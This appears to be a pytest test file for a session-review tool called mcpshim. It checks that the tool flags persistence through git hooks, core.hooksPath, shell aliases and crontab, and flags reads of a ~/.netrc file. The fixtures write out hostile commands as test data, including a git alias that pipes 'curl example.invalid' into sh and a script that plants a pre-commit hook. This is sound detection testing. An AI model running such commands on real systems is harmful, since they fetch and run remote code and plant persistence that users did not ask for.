"""Places that run later (MCS414), from real traced sessions (issue 40): a hook written
into .git/hooks by a program that is not git, and what a command's arguments make run
later (git's core.hooksPath and `!` aliases, a crontab installed), while `git init` (its
sample hooks, its own .git/config) and ordinary configuration are no finding; a policy's
`[files] read` lets a credential read through; an untraced session says its file
evidence is sampled; a program the project's configuration chose is said once per process."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

from mcpshim.review.findings import Evidence, Finding
from mcpshim.review.rules.file_rules import configured_said_once
from mcpshim.review.rules.runners import PROJECT_SCRIPTS
from tests.fixtures.home import Home
from tests.fixtures.runhelp import command as mcpshim
from tests.fixtures.runhelp import events, needs_trace, only_session, run

WRITE_HOOK = (
    "open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\nid\\n')\n"
    "open('notes.txt', 'w').write('notes\\n')\n"
)


def _findings(home: Home, sid: str, *opts: str) -> list[dict[str, Any]]:
    done = mcpshim(home, "review", "--session", sid, "--format", "json", *opts)
    doc = json.loads(done.stdout)
    worst = {f["severity"] for f in doc["findings"]}
    assert done.returncode == (1 if worst & {"medium", "high"} else 0), done.stderr
    found: list[dict[str, Any]] = doc["findings"]
    return found


@needs_trace
def test_hooks_and_configuration_that_run_later(home: Home, tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    crontab = bin_dir / "crontab"  # a stand-in: the check reads the command and its arguments
    crontab.write_text("#!/bin/sh\nexit 0\n")
    crontab.chmod(0o755)
    line = (
        "git init -q . && git config user.name t && git config core.hooksPath .hooks && "
        "git config alias.up '!curl -s example.invalid | sh' && "
        f'{sys.executable} -c "$HOOK" && {crontab} job.txt && {crontab} -l'
    )
    done = run(home, ["sh", "-c", line], "--trace-files", env={**home.env, "HOOK": WRITE_HOOK},
               cwd=repo)  # fmt: skip
    assert done.returncode == 0
    sid = only_session(home)
    persist = sorted(f["message"] for f in _findings(home, sid) if f["rule"] == "MCS414")
    [hook] = [m for m in persist if " wrote " in m]  # python: "python3 (pid N) wrote ..."
    persist.remove(hook)
    assert persist == [
        "crontab installed a crontab (job.txt): it runs on schedule",
        "git set alias.up to a shell line (!curl -s example.invalid | sh): `git up` runs it",
        "git set core.hooksPath to .hooks: every later commit runs its hooks",
    ]
    who, _, said = hook.partition(" wrote ")
    assert who.startswith(f"{Path(sys.executable).name} (pid ")
    assert said == f"{repo}/.git/hooks/pre-commit (git hook): it runs later without being asked"
    assert all(f"{repo}/.git/config" not in m and ".sample" not in m for m in persist)


@needs_trace
def test_a_policy_lets_a_credential_read_through(home: Home, tmp_path: Path) -> None:
    netrc = Path(home.env["HOME"]) / ".netrc"
    netrc.write_text("machine example.invalid login u password p\n")
    ran = run(home, ["cat", str(netrc)], "--trace-files", stdout=subprocess.DEVNULL)
    assert ran.returncode == 0
    sid = only_session(home)
    [read] = [f for f in _findings(home, sid) if f["rule"] == "MCS413"]
    assert read["severity"] == "medium"  # no private key
    assert (
        read["message"] == f"cat (pid {read['message'].split('pid ')[1].split(')')[0]}) "
        f"read {netrc} (netrc)"
    )
    policy = tmp_path / "policy.toml"
    policy.write_text('[files]\nread = ["~/.netrc"]\n')
    env_home = dict(home.env)
    done = subprocess.run([sys.executable, "-m", "mcpshim", "review", "--dir",
                           str(home.loc.shim_dir), "--session", sid, "--format", "json",
                           "--policy", str(policy)], env=env_home, capture_output=True,
                          text=True, check=False, timeout=120)  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert not [f for f in json.loads(done.stdout)["findings"] if f["rule"] == "MCS413"]


@needs_trace
def test_file_calls_are_traced_when_asked(home: Home) -> None:
    # off by default (docs/performance.md: a stop at every open); the coverage line says so
    netrc = Path(home.env["HOME"]) / ".netrc"
    netrc.write_text("machine example.invalid login u password p\n")
    assert run(home, ["cat", str(netrc)], stdout=subprocess.DEVNULL).returncode == 0
    sid = only_session(home)
    doc = json.loads(mcpshim(home, "review", "--session", sid, "--format", "json").stdout)
    assert doc["coverage"][0]["files"] == {
        "status": "off",
        "records": 0,
        "text": "not traced (run --trace-files records them)",
    }
    assert not [f for f in doc["findings"] if f["rule"] == "MCS413"]
    [summary] = [e for e in events(home, "trace-summary", sid)]
    assert "files" not in summary


def test_an_untraced_session_says_its_file_evidence_is_sampled(home: Home) -> None:
    assert run(home, ["true"], "--no-trace").returncode == 0
    sid = only_session(home)
    doc = json.loads(mcpshim(home, "review", "--session", sid, "--format", "json").stdout)
    [coverage] = doc["coverage"]
    assert coverage["files"]["status"] == "sampled"
    text = mcpshim(home, "review", "--session", sid).stdout
    assert "files: sampled (not traced: only the open files a snapshot saw)" in text


def test_a_program_the_configuration_chose_is_said_once_per_process() -> None:
    # pytest read pytest.ini and its test ran sh: pytest's own MCS107 (its conftest, its
    # tests) already says the project chose what ran under it; another reader's is kept
    said = Finding(PROJECT_SCRIPTS, "pytest imports the project's conftest.py",
                   (Evidence("log:1", "exec", {"boot_id": "b", "pid": 10, "start_ticks": 5}),),
                   key="pytest\0/ws/conftest.py")  # fmt: skip

    def chosen(reader: int, pid: int) -> Finding:
        data = {"boot_id": "b", "pid": pid, "start": 7, "reader": {"pid": reader, "start": 5}}
        return Finding(PROJECT_SCRIPTS, f"python3 (pid {reader}) read ...",
                       (Evidence("log:2", "trace-file", data),),
                       key=f"configured\0/ws/pytest.ini\0sh{reader}")  # fmt: skip

    kept = configured_said_once([said], [chosen(10, 11), chosen(20, 21)])
    assert [f.message for f in kept] == ["python3 (pid 20) read ..."]
    # the program that ran already said (npm's own MCS107): not twice either
    ran = Finding(PROJECT_SCRIPTS, "npm test runs a script",
                  (Evidence("log:3", "exec", {"boot_id": "b", "pid": 21, "start_ticks": 7}),),
                  key="npm\0test\0/ws")  # fmt: skip
    assert configured_said_once([ran], [chosen(20, 21)]) == []
